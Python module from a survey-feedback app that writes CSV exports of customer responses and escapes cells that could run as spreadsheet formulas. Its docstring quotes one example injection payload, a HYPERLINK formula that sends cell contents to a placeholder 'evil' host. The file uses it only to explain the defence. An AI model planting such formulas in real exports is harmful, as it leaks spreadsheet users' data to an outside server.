"""CSV exports, and the one helper every CSV we write goes through.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula —
``=HYPERLINK("http://evil/?"&A1, "click")`` in a customer's comment would run on the
analyst's machine. OWASP's rule ("CSV Injection"): prefix such a cell with a single
quote, which spreadsheets show as text; a leading tab or carriage return is treated the
same way, because some spreadsheets skip it and then read the formula behind it. Numbers
we wrote ourselves (a score, a sentiment of -0.4) are left alone: they are values, not text.

Every CSV Doorstep writes uses :func:`write_csv` (tests/core/test_exports.py checks each
export with a hostile comment). Files start with a UTF-8 byte order mark, so Excel on a
Chinese Windows reads the Chinese as Chinese instead of as GBK mojibake.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Iterator, Sequence
from typing import Any, TextIO

from sqlalchemy import func, select
from sqlalchemy.orm import Session, aliased

from doorstep.accounts.models import Workspace
from doorstep.deliveries.models import Customer, Delivery, Stage
from doorstep.surveys.models import Response

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"
CHUNK = 1000


def safe_cell(value: object) -> str | int | float:
    """One cell, safe to open in a spreadsheet: text that would start a formula gets a ``'``."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return value
    if isinstance(value, dt.datetime | dt.date):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_lines(header: Sequence[str], rows: Iterable[Sequence[object]]) -> Iterator[str]:
    """The CSV text in pieces (BOM and header first, then about CHUNK rows at a time), for
    streaming an export without holding it in memory."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    buffer.write(BOM)
    writer.writerow([safe_cell(h) for h in header])
    for i, row in enumerate(rows, start=1):
        writer.writerow([safe_cell(v) for v in row])
        if i % CHUNK == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def write_csv(stream: TextIO, header: Sequence[str], rows: Iterable[Sequence[object]]) -> None:
    """Write a whole CSV (see :func:`csv_lines`) to an open text stream (``newline=""``)."""
    for piece in csv_lines(header, rows):
        stream.write(piece)


# --- what can be exported ------------------------------------------------------------

RESPONSE_COLUMNS = (
    "responded_at", "delivery_external_id", "customer_external_id", "kind", "score", "comment", "stage",
    "attributed_stage", "attribution", "language", "sentiment", "sentiment_label", "themes",
)


def count_responses(
    *, session: Session, workspace: Workspace, since: dt.datetime | None = None, until: dt.datetime | None = None
) -> int:
    query = select(func.count()).select_from(Response).where(*_period(workspace, since, until))
    return int(session.scalar(query) or 0)


def _period(workspace: Workspace, since: dt.datetime | None, until: dt.datetime | None) -> list[Any]:
    where: list[Any] = [Response.workspace_id == workspace.id]
    if since is not None:
        where.append(Response.responded_at >= since)
    if until is not None:
        where.append(Response.responded_at < until)
    return where


def response_rows(
    *, session: Session, workspace: Workspace, since: dt.datetime | None = None, until: dt.datetime | None = None
) -> Iterator[tuple[object, ...]]:
    """Every answer of the period, oldest first, as rows of :data:`RESPONSE_COLUMNS`
    (streamed from the database in chunks)."""
    picked, attributed = aliased(Stage), aliased(Stage)
    query = (
        select(Response.responded_at, Delivery.external_id, Customer.external_id, Response.kind, Response.score,
               Response.comment, picked.key, attributed.key, Response.attribution, Response.language,
               Response.sentiment, Response.sentiment_label, Response.themes)
        .join(Delivery, Delivery.id == Response.delivery_id)
        .join(Customer, Customer.id == Response.customer_id)
        .outerjoin(picked, picked.id == Response.stage_id)
        .outerjoin(attributed, attributed.id == Response.attributed_stage_id)
        .where(*_period(workspace, since, until))
        .order_by(Response.responded_at, Response.id)
        .execution_options(yield_per=CHUNK)
    )
    for row in session.execute(query):
        *head, themes = row
        yield (*head, ";".join(themes or []))
